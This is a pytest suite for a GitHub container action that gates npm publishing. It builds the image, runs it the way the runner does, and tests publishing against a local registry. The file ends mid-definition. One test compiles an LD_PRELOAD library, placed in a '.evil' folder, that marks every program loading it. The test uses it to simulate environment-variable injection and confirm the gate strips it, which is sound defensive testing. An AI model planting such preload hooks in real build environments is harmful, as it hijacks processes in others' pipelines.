"""The real container: the action's own Dockerfile, built here and run the way GitHub's runner runs it.

The image is built by `scripts/container-test.sh --build-only` (it installs podman/buildah from Debian
when missing, and makes a local stand-in for the base image: no container registry is reachable here).
Then `podman run` reproduces the runner's `docker run` for a container action:

    --workdir /github/workspace --rm -e INPUT_NPM-TOKEN -e GITHUB_... (passed BY NAME, hyphens kept)
    -v <home>:/github/home -v <workflow>:/github/workflow -v <file_commands>:/github/file_commands
    -v <workspace>:/github/workspace

with the workspace owned by ANOTHER uid than the container's root (git then needs safe.directory),
RUNNER_TEMP pointing at a host path that does not exist in the container (actions/runner#1984), and
ACTIONS_ID_TOKEN_REQUEST_URL/_TOKEN passed through. Host networking lets the container reach the
test's Verdaccio and GitHub stand-in on 127.0.0.1 (the default bridge network is never used).

Hygiene (issue 11): every podman/buildah call goes through `scripts/container/private.sh`, i.e. this
checkout's PRIVATE image store and state under `.cache/podman/` (CONTAINERS_STORAGE_CONF, file locks,
a private mount namespace over the system's container paths); the local stand-in base is named
`localhost/npm-gatekeeper-test/node-standin:22-bookworm-slim`, never an official image name.

Needs, stated by `scripts/container-test.sh` before it does anything: Linux, root, and the Debian
packages it lists (it installs only the missing ones, with apt-get). Where it cannot run (not Linux,
not root, packages missing and no apt-get) the tests SKIP with the script's reason;
GATEKEEPER_SKIP_CONTAINER=1 skips on purpose, GATEKEEPER_REQUIRE_CONTAINER=1 (CI) turns a skip into a
failure. The build prints progress to the terminal (capture disabled) while it runs, even under -q.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import tempfile
import uuid
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from gatekeeper._internal.hostenv import IMAGE_PATH, LOADER_NAMES
from tests._support.container_build import (
    CANNOT_RUN,
    IMAGE,
    PODMAN_STATE,
    PREBUILD_RESULT,
    build_and_verify,
    cached_steps,
    image_ids,
    podman,
    podman_env,
    prebuilt_image,
    verify_reproducible,
)
from tests._support.github_server import GitHubServer
from tests._support.verdaccio import Verdaccio
from tests._support.workspace import (
    ActionResult,
    assert_no_leak,
    build_env,
    head_sha,
    make_package_repo,
    parse_github_output,
    parse_workflow_commands,
)

ROOT = Path(__file__).resolve().parent.parent
BASE_STANDIN = "localhost/npm-gatekeeper-test/node-standin:22-bookworm-slim"
# Every podman call: this checkout's private store and state, in a private mount namespace.
PRIVATE = ["bash", str(ROOT / "scripts" / "container" / "private.sh")]
ENTRYPOINT = [
    "/bin/busybox",
    "env",
    *[arg for name in LOADER_NAMES for arg in ("-u", name)],
    "/opt/venv/bin/python",
    "-I",
    "-B",
    "-u",
    "/opt/gatekeeper/entrypoint.py",
]
WORKSPACE_UID = 1001  # the runner's user; the container runs as root (uid 0)
HOST_RUNNER_TEMP = "/home/runner/work/_temp"  # what the runner sets; not mounted into the container
# Always runc, explicit ulimits, and host (or no) networking: never the default bridge network.
RUN = ["run", "--rm", "--runtime", "runc", "--ulimit", "nofile=20000:20000", "--ulimit", "nproc=32768:32768"]
SESSION_BUILD: dict[str, int] = {}  # "cached_steps" of the session's build (None: built outside the session)


def _terminal(config: pytest.Config) -> Callable[[str], None]:
    """Write a line to the terminal NOW, past pytest's output capture (so `pytest -q` shows progress)."""
    reporter = config.pluginmanager.get_plugin("terminalreporter")
    capture = config.pluginmanager.get_plugin("capturemanager")

    def say(line: str) -> None:
        if capture is not None:
            with capture.global_and_fixture_disabled():
                _write(reporter, line)
        else:
            _write(reporter, line)

    return say


def _write(reporter: Any, line: str) -> None:
    if reporter is not None:
        reporter.write_line(line)
        reporter.flush()  # also when the terminal is a file or a pipe (CI logs)
    else:
        print(line, file=sys.stderr, flush=True)


def _skip_or_fail(reason: str) -> None:
    if os.environ.get("GATEKEEPER_REQUIRE_CONTAINER") == "1":
        pytest.fail(f"the container test must run here (GATEKEEPER_REQUIRE_CONTAINER=1) but cannot: {reason}")
    pytest.skip(reason)


@pytest.fixture(scope="session")
def image(request: pytest.FixtureRequest) -> str:
    """The image built from ./Dockerfile, once per session, in the private store (warm rebuild ~2 s)."""
    if os.environ.get("GATEKEEPER_SKIP_CONTAINER") == "1":
        _skip_or_fail("CONTAINER TEST SKIPPED on request (GATEKEEPER_SKIP_CONTAINER=1): the Dockerfile was NOT built")
    if os.environ.get("GATEKEEPER_IMAGE_BUILT") == "1":
        return IMAGE
    say = _terminal(request.config)
    prebuilt = prebuilt_image()  # scripts/test.sh's background build of this run: wait for it, use it
    if prebuilt is not None:
        say(f"test_container: using the image this run built in the background ({prebuilt['image_id'][:12]})")
        SESSION_BUILD["cached_steps"] = prebuilt["cached_steps"]
    else:
        say("")
        say("test_container: building the action image first (root, podman/buildah; cold 2-10 min, cached ~2 s)")
        # On a cold store the reproducibility rebuild starts at the same time (a scratch store of its own).
        rc, out, err = build_and_verify(say, verify_when_warm=False)
        if rc == CANNOT_RUN:
            _skip_or_fail(
                "CONTAINER TEST SKIPPED: "
                + (err.strip().splitlines() or ["cannot run here"])[-1]
                + " -- the action's Dockerfile was NOT built or tested."
            )
        assert rc == 0, f"building the image failed:\n{out[-4000:]}\n{err[-8000:]}"
        SESSION_BUILD["cached_steps"] = cached_steps(out)
    return IMAGE


def sh(image: str, script: str) -> subprocess.CompletedProcess[str]:
    """Run a shell snippet in a throwaway container of the image (no mounts)."""
    return podman(*RUN, "--network", "none", "--entrypoint", "/bin/sh", image, "-c", script)


def version(text: str) -> tuple[int, ...]:
    m = re.search(r"(\d+)\.(\d+)\.(\d+)", text)
    assert m, f"no version in {text!r}"
    return tuple(int(x) for x in m.groups())


# --------------------------------------------------------------------------------------------------
# running the image like the runner


@dataclass
class ContainerRun:
    """One `podman run` of the image with GitHub's mounts and env, plus what it left behind."""

    result: ActionResult  # returncode, stdout, stderr, outputs, summary, report, host dirs
    env: dict[str, str]  # what the container was given
    command: list[str]

    def describe(self) -> str:
        return " ".join(self.command) + "\n" + self.result.describe()


def run_in_container(
    image: str,
    workspace: Path,
    *,
    env: Mapping[str, str] | None = None,
    inputs: Mapping[str, str] | None = None,
    event: Mapping[str, Any] | None = None,
    entrypoint: str | None = None,
    args: Sequence[str] = (),
    workspace_uid: int = WORKSPACE_UID,
    timeout: float = 300,
    run_root: Path | None = None,
) -> ContainerRun:
    """`podman run` the image as the runner runs a container action (see the module docstring).

    The runner's own dirs (home, workflow, file_commands) are made under `run_root` (a test's tmp_path)."""
    workspace = Path(workspace).resolve()
    run_dir = Path(tempfile.mkdtemp(prefix="gk-ctr-", dir=run_root))
    home, workflow, files = run_dir / "_github_home", run_dir / "_github_workflow", run_dir / "_runner_file_commands"
    for d in (home, workflow, files):
        d.mkdir()
    # The runner's own view (host paths), as the subprocess harness builds it; computed before the
    # chown below (host git would refuse the repo afterwards).
    host_env = build_env(workspace, env or {}, home, run_dir, inputs)
    suffix = uuid.uuid4().hex[:8]
    names = {
        "GITHUB_OUTPUT": f"set_output_{suffix}",
        "GITHUB_STEP_SUMMARY": f"step_summary_{suffix}",
        "GITHUB_ENV": f"set_env_{suffix}",
        "GITHUB_PATH": f"add_path_{suffix}",
        "GITHUB_STATE": f"save_state_{suffix}",
    }
    cenv = {k: v for k, v in host_env.items() if k not in ("PATH", "TMPDIR", "LANG")}
    cenv.update(
        {
            "HOME": "/github/home",
            "GITHUB_WORKSPACE": "/github/workspace",
            "GITHUB_EVENT_PATH": "/github/workflow/event.json",
            "RUNNER_TEMP": HOST_RUNNER_TEMP,
            "RUNNER_TOOL_CACHE": "/opt/hostedtoolcache",
            "RUNNER_WORKSPACE": "/home/runner/work/widget",
        }
    )
    for key, name in names.items():
        cenv[key] = f"/github/file_commands/{name}"
        (files / name).touch()
    (workflow / "event.json").write_text(json.dumps(dict(event or {}), indent=2), encoding="utf-8")
    for d in (home, workflow, files):  # the runner's dirs belong to the runner's user, like the workspace
        os.chown(d, workspace_uid, workspace_uid)
    for path in [workspace, *workspace.rglob("*")]:
        os.lchown(path, workspace_uid, workspace_uid)

    cmd = [*PRIVATE, "podman", *RUN, "--network", "host", "--workdir", "/github/workspace"]
    by_value = {k for k in cenv if k == "HOME" or k in LOADER_NAMES or k.startswith("LD_")}
    for key in cenv:
        # By NAME, exactly like the runner (`-e "INPUT_NPM-TOKEN"`): the value comes from podman's env.
        # HOME is given by value (podman itself must keep the host's HOME), and so are the loader variables
        # (podman itself must not load a test's LD_PRELOAD library).
        cmd += ["-e", f"{key}={cenv[key]}" if key in by_value else key]
    mounts = {
        home: "/github/home",
        workflow: "/github/workflow",
        files: "/github/file_commands",
        workspace: "/github/workspace",
    }
    for host_dir, target in mounts.items():
        cmd += ["-v", f"{host_dir}:{target}"]
    if entrypoint:
        cmd += ["--entrypoint", entrypoint]
    cmd += [image, *args]
    passed = {k: v for k, v in cenv.items() if k not in by_value}
    proc = subprocess.run(
        cmd, env={**podman_env(), **passed}, capture_output=True, text=True, timeout=timeout, check=False
    )
    outputs = parse_github_output((files / names["GITHUB_OUTPUT"]).read_text(encoding="utf-8"))
    summary = (files / names["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8")
    report = None
    if outputs.get("report"):
        rel = outputs["report"]
        path = workspace / Path(rel).relative_to("/github/workspace") if rel.startswith("/github/") else workspace / rel
        if path.is_file():
            report = json.loads(path.read_text(encoding="utf-8"))
    result = ActionResult(
        proc.returncode, proc.stdout, proc.stderr, outputs, summary, report, run_dir, run_dir, workspace, home, cenv
    )
    return ContainerRun(result, cenv, cmd)


# --------------------------------------------------------------------------------------------------
# the image itself


def test_image_config_follows_githubs_rules_for_container_actions(image: str) -> None:
    proc = podman("image", "inspect", image)
    assert proc.returncode == 0, proc.stderr
    config = json.loads(proc.stdout)[0]["Config"]
    assert config.get("Entrypoint") == ENTRYPOINT  # absolute, exec form
    assert not config.get("Cmd"), f"the base image's CMD must be reset, got {config.get('Cmd')}"
    assert config.get("User", "") in ("", "root", "0"), "no USER: GitHub runs the container as root"
    assert config.get("WorkingDir", "") in ("", "/"), "no WORKDIR: the workspace is mounted over the working dir"
    env = dict(item.split("=", 1) for item in config.get("Env", []))
    # PATH only (issue 21): a PYTHON* or npm_config_* variable would make the gate refuse to publish
    assert set(env) == {"PATH"} and env["PATH"] == IMAGE_PATH, env
    labels = config.get("Labels") or {}
    assert labels.get("org.opencontainers.image.source", "").startswith("https://github.com/")
    assert labels.get("org.opencontainers.image.title") == "npm-gatekeeper"


def test_image_has_the_runtimes_and_exactly_the_locked_dependencies(image: str) -> None:
    probe = (
        "node --version; npm --version; git --version; python3 --version; "
        "/opt/venv/bin/python -c 'import importlib.metadata as m, json; "
        'print(json.dumps({d.metadata["Name"].lower(): d.version for d in m.distributions()}))\''
    )
    proc = sh(image, probe)
    assert proc.returncode == 0, proc.stderr
    node, npm, git, python, deps = proc.stdout.strip().splitlines()
    assert version(node) >= (22, 14, 0), node  # OIDC trusted publishing needs Node >= 22.14
    assert version(npm) >= (11, 5, 1), npm  # ... and npm >= 11.5.1
    assert git.startswith("git version"), git
    assert version(python) >= (3, 11, 0), python
    locked = dict(
        re.findall(r"^([A-Za-z0-9_.-]+)==(\S+)", (ROOT / "requirements.txt").read_text(encoding="utf-8"), re.M)
    )
    installed = json.loads(deps)
    assert {k.replace("_", "-"): v for k, v in installed.items()} == {
        k.lower().replace("_", "-"): v for k, v in locked.items()
    }, "the venv holds exactly the hash-locked requirements (and no pip/setuptools)"
    imports = sh(image, "/opt/venv/bin/python -c 'import github, requests, yaml, cryptography, nacl, jwt'")
    assert imports.returncode == 0, imports.stderr


def test_image_leaves_no_compilers_caches_or_extra_files(image: str) -> None:
    script = r"""
        for t in gcc cc c++ g++ make clang rustc ld as strip objcopy; do command -v $t && echo "COMPILER $t"; done
        [ -e /opt/venv/bin/pip ] && echo "PIP in venv"
        ls -A /var/lib/apt/lists | grep -v '^lock$' | grep -v '^partial$' | sed 's/^/APTLIST /'
        ls -A /var/cache/apt/archives 2>/dev/null | grep -v '^partial$' | grep -v '^lock$' | sed 's/^/DEB /'
        for d in /root/.npm /root/.cache /tmp/node-compile-cache; do [ -e $d ] && echo "CACHE $d"; done
        ls -A /tmp | sed 's/^/TMP /'
        find /opt/gatekeeper -name __pycache__ | sed 's/^/PYC /'
        ls -A /opt/gatekeeper | sed 's/^/APP /'
        [ -x /opt/gatekeeper/entrypoint.py ] || echo "NOT EXECUTABLE /opt/gatekeeper/entrypoint.py"
        head -n1 /opt/gatekeeper/entrypoint.py | grep -q '^#!' || echo "NO SHEBANG /opt/gatekeeper/entrypoint.py"
        true
    """
    proc = sh(image, script)
    assert proc.returncode == 0, proc.stderr
    lines = proc.stdout.split("\n")
    problems = [ln for ln in lines if ln and not ln.startswith("APP ")]
    assert problems == [], "left behind in the image:\n" + "\n".join(problems)
    assert sorted(ln[4:] for ln in lines if ln.startswith("APP ")) == ["entrypoint.py", "gatekeeper"]


PACK_PROBE = r"""
import json, sys, tarfile
from pathlib import Path
sys.path.insert(0, "/opt/gatekeeper")
from gatekeeper._internal import packers
root = Path("/tmp/ws")
(root / "packages/a").mkdir(parents=True)
(root / "packages/b").mkdir(parents=True)
# pnpm reads pnpm-workspace.yaml, bun the `workspaces` field
top = {"name": "r", "private": True, "packageManager": "pnpm@10.0.0", "workspaces": ["packages/*"]}
(root / "package.json").write_text(json.dumps(top))
(root / "pnpm-workspace.yaml").write_text("packages:\n  - packages/*\n")
(root / "packages/a/package.json").write_text(json.dumps({"name": "a", "version": "1.2.3"}))
b = {"name": "b", "version": "2.0.0", "dependencies": {"a": "workspace:^"}}
(root / "packages/b/package.json").write_text(json.dumps(b))
out = {"pinned": packers.pinned_versions(), "modules": str(packers.modules_dir())}
for tool in ("pnpm", "bun"):
    dest = Path(f"/tmp/out-{tool}")
    dest.mkdir()
    p = packers.pack(root / "packages/b", dest, tool, repo_root=root, timeout=120)
    with tarfile.open(p.path) as tar:
        manifest = json.load(tar.extractfile("package/package.json"))
    out[tool] = [p.manager, p.manager_version, manifest["dependencies"]["a"]]
print(json.dumps(out))
"""


def test_image_packs_with_the_pinned_package_managers_offline(image: str) -> None:
    """pnpm and bun from /opt/packers (the lock's versions), no network (`--network none`) although the root's
    packageManager names another pnpm; yarn's entry is there too."""
    proc = podman(*RUN, "--network", "none", "--entrypoint", "/opt/venv/bin/python", image, "-I", "-c", PACK_PROBE)
    assert proc.returncode == 0, proc.stderr
    out = json.loads(proc.stdout.strip().splitlines()[-1])
    assert out["modules"] == "/opt/packers/node_modules"
    assert out["pnpm"] == ["pnpm", out["pinned"]["pnpm"], "^1.2.3"], out
    assert out["bun"] == ["bun", out["pinned"]["bun"], "^1.2.3"], out
    yarn = sh(image, "test -f /opt/packers/node_modules/@yarnpkg/cli-dist/bin/yarn.js && echo ok")
    assert yarn.stdout.strip() == "ok", yarn.stderr


# --------------------------------------------------------------------------------------------------
# the runner's contract, checked from inside the container

CONTRACT_PROBE = r"""
import json, os, subprocess, sys, tempfile
from pathlib import Path
sys.path.insert(0, "/opt/gatekeeper")
from gatekeeper.config import Inputs
from gatekeeper._internal import git as gk_git
from gatekeeper._internal.npm import private_tempdir

ws = Path("/github/workspace")
out = {"cwd": os.getcwd(), "uid": os.getuid(), "ws_uid": ws.stat().st_uid}
out["input_env"] = os.environ.get("INPUT_NPM-TOKEN")
out["inputs_token"] = Inputs.from_env(os.environ).npm_token.reveal()
out["inputs_registry"] = Inputs.from_env(os.environ).registry
plain = subprocess.run(["git", "-C", str(ws), "rev-parse", "HEAD"], capture_output=True, text=True)
out["plain_git"] = [plain.returncode, plain.stderr]
out["gk_is_repo"] = gk_git.is_repo(ws)
out["gk_tracked"] = gk_git.tracked_files(ws)
out["home"] = os.environ["HOME"]
Path(os.environ["HOME"], "written-by-container").write_text("hi")
out["event"] = json.loads(Path(os.environ["GITHUB_EVENT_PATH"]).read_text())
with open(os.environ["GITHUB_OUTPUT"], "a") as fh:
    fh.write("probe=ok\n")
with open(os.environ["GITHUB_STEP_SUMMARY"], "a") as fh:
    fh.write("## probe\n")
out["runner_temp"] = os.environ.get("RUNNER_TEMP")
out["runner_temp_exists"] = os.path.exists(os.environ.get("RUNNER_TEMP", "/nonexistent"))
out["gettempdir"] = tempfile.gettempdir()
tmp = private_tempdir(ws, "gk-probe-")
out["private_tempdir"] = str(tmp)
out["private_tempdir_mode"] = oct(tmp.stat().st_mode & 0o777)
pack = subprocess.run(["npm", "pack", "--ignore-scripts", "--json", "--pack-destination", str(tmp)],
                      capture_output=True, text=True, cwd=ws)
out["npm_pack"] = [pack.returncode, pack.stderr[-2000:]]
out["npm_pack_files"] = sorted(f["path"] for f in json.loads(pack.stdout)[0]["files"]) if pack.returncode == 0 else []
out["id_token"] = [os.environ.get("ACTIONS_ID_TOKEN_REQUEST_URL"), os.environ.get("ACTIONS_ID_TOKEN_REQUEST_TOKEN")]
out["github_actions"] = os.environ.get("GITHUB_ACTIONS")
Path("/github/file_commands/probe.json").write_text(json.dumps(out))
"""


def test_runner_contract_inside_the_container(image: str, tmp_path: Path) -> None:
    workspace = make_package_repo(tmp_path / "ws", "contract-pkg", "1.2.3")
    token = "npm_" + "Probe0Token1Value2With3Enough4Chars5"
    event = {"ref": "refs/heads/main", "repository": {"full_name": "acme/widget", "default_branch": "main"}}
    run = run_in_container(
        image,
        workspace,
        env={
            "ACTIONS_ID_TOKEN_REQUEST_URL": "http://127.0.0.1:9/_apis/token?api-version=2.0",
            "ACTIONS_ID_TOKEN_REQUEST_TOKEN": "id-request-token-value",
        },
        inputs={"npm-token": token, "registry": "http://127.0.0.1:9/"},
        event=event,
        entrypoint="/opt/venv/bin/python",
        args=["-c", CONTRACT_PROBE],
        run_root=tmp_path,
    )
    res = run.result
    assert res.returncode == 0, run.describe()
    probe = json.loads((res.run_dir / "_runner_file_commands" / "probe.json").read_text(encoding="utf-8"))
    assert probe["cwd"] == "/github/workspace"
    assert probe["uid"] == 0 and probe["ws_uid"] == WORKSPACE_UID
    # INPUT_NPM-TOKEN passed by name with its hyphen, read by the real config code
    assert probe["input_env"] == token and probe["inputs_token"] == token
    assert probe["inputs_registry"] == "http://127.0.0.1:9/"
    # the workspace belongs to another uid: plain git refuses, the product's git calls work
    assert probe["plain_git"][0] != 0 and "dubious ownership" in probe["plain_git"][1]
    assert probe["gk_is_repo"] is True
    assert {"package.json", "index.js", ".github/workflows/release.yml"} <= set(probe["gk_tracked"])
    # HOME, the event, the file commands
    assert probe["home"] == "/github/home"
    assert (res.home / "written-by-container").read_text() == "hi"
    assert probe["event"] == event
    assert res.outputs == {"probe": "ok"}
    assert res.summary == "## probe\n"
    # RUNNER_TEMP is a host path that does not exist in the container: temp files go elsewhere
    assert probe["runner_temp"] == HOST_RUNNER_TEMP and probe["runner_temp_exists"] is False
    assert not probe["private_tempdir"].startswith("/github/")
    assert probe["private_tempdir_mode"] == "0o700"
    # npm (as root) packs the other uid's workspace
    assert probe["npm_pack"][0] == 0, probe["npm_pack"][1]
    assert {"package.json", "index.js", "README.md"} <= set(probe["npm_pack_files"])
    assert probe["id_token"] == [
        "http://127.0.0.1:9/_apis/token?api-version=2.0",
        "id-request-token-value",
    ]
    assert probe["github_actions"] == "true"
    # nothing was written into the workspace
    assert sorted(p.name for p in workspace.iterdir()) == sorted(
        [".git", ".github", ".gitignore", "README.md", "index.js", "package.json"]
    )


def test_entrypoint_fails_closed_when_nothing_answers(image: str, tmp_path: Path) -> None:
    """The real entrypoint, registry and GitHub API both unreachable: exit 2, nothing published, no leak."""
    workspace = make_package_repo(tmp_path / "ws", "offline-pkg", "1.0.0")
    token = "npm_" + "Offline0Token1Value2Enough3Chars4Ab"
    run = run_in_container(
        image, workspace, inputs={"npm-token": token, "registry": "http://127.0.0.1:9/"}, run_root=tmp_path
    )
    res = run.result
    assert res.returncode == 2, run.describe()
    assert res.outputs.get("published") == "false", run.describe()
    assert "could not decide" in res.summary.splitlines()[0] and "NOT published" in res.summary.splitlines()[0]
    assert token in [c.message for c in parse_workflow_commands(res.stdout) if c.name == "add-mask"]
    assert_no_leak(res, token)


# --------------------------------------------------------------------------------------------------
# issue 21: the loader variables load nothing into the gate (a static busybox removes them first)

PRELOAD_C = r"""
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void hook(void) {
  char exe[512] = {0}; char path[1024];
  if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) return;
  const char *base = strrchr(exe, '/'); base = base ? base + 1 : exe;
  snprintf(path, sizeof path, "/github/workspace/.evil/markers/preload-%s", base);
  FILE *f = fopen(path, "a"); if (f) fclose(f);
}
"""


def _preload_library(workspace: Path) -> Path:
    """An LD_PRELOAD library (what a build step would leave in the workspace) that marks every program that
    loads it; untracked, under the mounted workspace."""
    import shutil

    cc = shutil.which("gcc") or shutil.which("cc")
    if cc is None:
        pytest.skip("no C compiler for the LD_PRELOAD library")
    evil = workspace / ".evil"
    (evil / "markers").mkdir(parents=True)
    (evil / "preload.c").write_text(PRELOAD_C)
    subprocess.run([cc, "-shared", "-fPIC", "-o", str(evil / "preload.so"), str(evil / "preload.c")], check=True)
    (evil / "markers").chmod(0o777)
    return evil / "markers"


def _give_back(workspace: Path) -> None:
    """The workspace back to this user after a run (run_in_container hands it to the runner's uid; host git would
    refuse it for the next run's GITHUB_SHA)."""
    for path in [workspace, *workspace.rglob("*")]:
        os.lchown(path, os.getuid(), os.getgid())


def test_ld_preload_loads_into_nothing_in_the_image(image: str, tmp_path: Path) -> None:
    """LD_PRELOAD (and GLIBC_TUNABLES) as a build step writes them into $GITHUB_ENV: the library loads into no
    program of the gate's, in publish and check mode; another LD_* that reaches the gate is still refused."""
    workspace = make_package_repo(tmp_path / "ws", "preload-pkg", "1.0.0")
    markers = _preload_library(workspace)
    env = {"LD_PRELOAD": "/github/workspace/.evil/preload.so", "GLIBC_TUNABLES": "glibc.malloc.check=3"}
    # the control: the image's Python started directly (as the ENTRYPOINT did before) loads the library
    control = run_in_container(
        image, workspace, env=env, entrypoint="/opt/venv/bin/python", args=["-c", "pass"], run_root=tmp_path
    )
    assert control.result.returncode == 0, control.describe()
    _give_back(workspace)
    loaded = sorted(p.name for p in markers.iterdir())
    assert loaded and all(n.startswith("preload-python") for n in loaded), loaded
    for p in markers.iterdir():
        p.unlink()
    token = "npm_" + "Preload0Token1Value2Enough3Chars4Ab"
    inputs = {"npm-token": token, "registry": "http://127.0.0.1:9/"}
    # publish mode: removed before the gate started (it cannot name them); an LD_* glibc does not read reaches it
    # and is refused by name, as every listed class is
    run = run_in_container(image, workspace, env={**env, "LD_SOMETHING_ELSE": "1"}, inputs=inputs, run_root=tmp_path)
    _give_back(workspace)
    res = run.result
    assert res.returncode == 2, run.describe()
    assert "Refusing to publish" in res.stdout and "`LD_SOMETHING_ELSE`" in res.stdout, run.describe()
    assert "`LD_PRELOAD`" not in res.stdout and "`GLIBC_TUNABLES`" not in res.stdout, "removed before Python"
    assert res.outputs.get("published") == "false"
    assert token in [c.message for c in parse_workflow_commands(res.stdout) if c.name == "add-mask"], (
        "the runner's INPUT_NPM-TOKEN survived the removal"
    )
    # check mode goes on (registry and API unreachable here: it cannot decide): the gate runs git and npm
    check = run_in_container(image, workspace, env=env, inputs={**inputs, "mode": "check"}, run_root=tmp_path)
    assert check.result.returncode == 2, check.describe()
    assert sorted(p.name for p in markers.iterdir()) == [], "the preload library ran in the gate or a child"
    assert_no_leak(res, token)


# --------------------------------------------------------------------------------------------------
# end to end: the image against a real registry (Verdaccio) and the GitHub stand-in, over loopback


def _release_setup(
    verdaccio: Verdaccio, github_server: GitHubServer, tmp_path: Path, prefix: str, test_check: str
) -> tuple[Path, str, str, dict[str, str], dict[str, str], dict[str, Any]]:
    """A package repo on `main` of acme/widget with a `test` check concluded `test_check`, this job running."""
    pkg = verdaccio.unique(prefix)
    user = verdaccio.unique("ctr-user")
    token = verdaccio.add_user(user, "pw-" + user)
    workspace = make_package_repo(tmp_path / "ws", pkg, "1.0.0")
    sha = head_sha(workspace)
    repo = github_server.repo("acme/widget")
    repo.add_commit(sha, branch="main")
    repo.add_check_run(sha, "test", conclusion=test_check)
    run = repo.add_workflow_run(sha, run_id=4242)
    job = run.add_job("release", status="in_progress", conclusion=None)
    repo.add_check_run(sha, "release", status="in_progress", id=job.id)  # this job's own check run
    env = {
        "GITHUB_API_URL": github_server.url,
        "GITHUB_SERVER_URL": github_server.web_url,
        "GITHUB_REPOSITORY": "acme/widget",
        "GITHUB_RUN_ID": "4242",
        "GITHUB_SHA": sha,
    }
    inputs = {"npm-token": token, "github-token": github_server.token or "", "registry": verdaccio.url}
    event = {
        "ref": "refs/heads/main",
        "after": sha,
        "repository": {"full_name": "acme/widget", "default_branch": "main"},
    }
    return workspace, pkg, token, env, inputs, event


def test_container_publishes_a_green_release_to_the_registry(
    image: str, verdaccio: Verdaccio, github_server: GitHubServer, tmp_path: Path
) -> None:
    workspace, pkg, token, env, inputs, event = _release_setup(verdaccio, github_server, tmp_path, "ctr-ok", "success")
    run = run_in_container(image, workspace, env=env, inputs=inputs, event=event, run_root=tmp_path)
    res = run.result
    assert res.returncode == 0, run.describe()
    assert res.outputs["decision"] == "allow" and res.outputs["published"] == "true", run.describe()
    assert res.outputs["name"] == pkg and res.outputs["version"] == "1.0.0"
    assert res.outputs["previous-version"] == ""
    # the report is in the workspace, where a later step of the job can upload it
    assert res.report is not None, run.describe()
    assert res.report["decision"] == "allow" and res.report["package"] == {"name": pkg, "version": "1.0.0"}
    assert set(res.report["gates"].values()) <= {"pass", "skipped"}
    # the summary leads with the decision
    headline = res.summary.lstrip().splitlines()[0]
    assert headline.startswith("## ") and f"`{pkg}@1.0.0` published" in headline, res.summary
    # the registry holds exactly the tarball the gates looked at
    packument = verdaccio.packument(pkg)
    assert packument is not None and "1.0.0" in packument["versions"], run.describe()
    published_integrity = packument["versions"]["1.0.0"]["dist"]["integrity"]
    assert published_integrity == res.report["publish"]["integrity"]
    assert token in [c.message for c in parse_workflow_commands(res.stdout) if c.name == "add-mask"]
    assert_no_leak(res, token)


def test_container_blocks_a_red_build_and_publishes_nothing(
    image: str, verdaccio: Verdaccio, github_server: GitHubServer, tmp_path: Path
) -> None:
    workspace, pkg, token, env, inputs, event = _release_setup(verdaccio, github_server, tmp_path, "ctr-red", "failure")
    run = run_in_container(image, workspace, env=env, inputs=inputs, event=event, run_root=tmp_path)
    res = run.result
    assert res.returncode == 1, run.describe()
    assert res.outputs["decision"] == "block" and res.outputs["published"] == "false", run.describe()
    assert res.report is not None and res.report["gates"]["green-build"] == "fail"
    assert any(f["rule"] == "check-failed" for f in res.report["findings"]), res.report["findings"]
    headline = res.summary.lstrip().splitlines()[0]
    assert f"`{pkg}@1.0.0` blocked" in headline and "NOT published" in headline, res.summary
    assert "`test`" in res.summary, "the summary names the failing check"
    assert any(c.name == "error" for c in parse_workflow_commands(res.stdout)), res.stdout
    assert verdaccio.packument(pkg) is None, "a blocked release must not reach the registry"
    assert_no_leak(res, token)


# --------------------------------------------------------------------------------------------------
# test hygiene and reproducibility


def test_a_prebuilt_image_is_used_only_as_the_prebuild_recorded_it(
    image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """scripts/test.sh's background build hands its image to the container tests (no second build)
    only when it succeeded and the image in the store is still the one it built."""
    current = image_ids(image)["id"]
    result = tmp_path / "container-prebuild.json"
    monkeypatch.setenv(PREBUILD_RESULT, str(result))
    assert prebuilt_image() is None  # no result: the prebuild did not run (or not yet done)
    for recorded, used in (
        ({"rc": 0, "cached_steps": 13, "image_id": current}, True),
        ({"rc": 1, "cached_steps": 13, "image_id": current}, False),
        ({"rc": 0, "cached_steps": 13, "image_id": "0" * 64}, False),  # the store's image changed since
    ):
        result.write_text(json.dumps(recorded), encoding="utf-8")
        assert (prebuilt_image() == recorded) is used, recorded


def test_the_suite_uses_a_private_store_and_no_official_image_name(image: str) -> None:
    """Images live in this checkout's .cache/podman, and the stand-in base carries a project name."""
    info = podman("info", "--format", "{{.Store.GraphRoot}} {{.Store.RunRoot}}")
    assert info.returncode == 0, info.stderr
    graphroot, runroot = info.stdout.split()
    state = PODMAN_STATE.resolve()  # .cache may be a symlink (a worktree sharing another checkout's)
    assert Path(graphroot) == state / "storage" and Path(runroot) == state / "run"
    names = podman("images", "--format", "{{.Repository}}:{{.Tag}}")
    assert names.returncode == 0, names.stderr
    listed = set(names.stdout.split()) - {"<none>:<none>"}  # untagged layers of an earlier build carry no name
    assert image in listed
    if os.environ.get("GATEKEEPER_REAL_BASE") != "1":
        assert BASE_STANDIN in listed, listed
        # no stand-in may ever answer to an official name (docker.io/library/..., or a short name)
        assert not [n for n in listed if not n.startswith("localhost/npm-gatekeeper")], listed


def test_two_builds_of_the_same_commit_give_the_same_image(image: str, request: pytest.FixtureRequest) -> None:
    """Reproducible: a rebuild of every layer after FROM (--no-cache) gives the very same image id.

    The image id is the digest of the image config, which names every layer by the digest of its
    content (diff_ids), so equal ids mean byte-identical layers, config and history. Checked ONCE PER
    BUILD (tests/_support/container_build.py): the fresh rebuild goes to a scratch store of its own (no
    layer shared with the image it is compared with), and the verdict is recorded under the image id, so
    a later session with the very same image reads it instead of rebuilding; scripts/test.sh runs it in
    the background from the start of the suite (on a cold store, alongside the main build). If the
    session's image came (partly) from an older layer cache, a difference may just be the Debian archive
    having moved on since that cache was made: then a second fresh build decides."""
    say = _terminal(request.config)
    verdict = verify_reproducible(say, image, SESSION_BUILD.get("cached_steps"))
    say(f"test_container: reproducibility ({verdict.how}): {(verdict.message.splitlines() or [''])[0]}")
    assert verdict.ok, verdict.message


SANDBOX_PROBE = r"""
import json, os, subprocess, sys
from pathlib import Path
sys.path.insert(0, "/opt/gatekeeper")
from gatekeeper._internal import sandbox
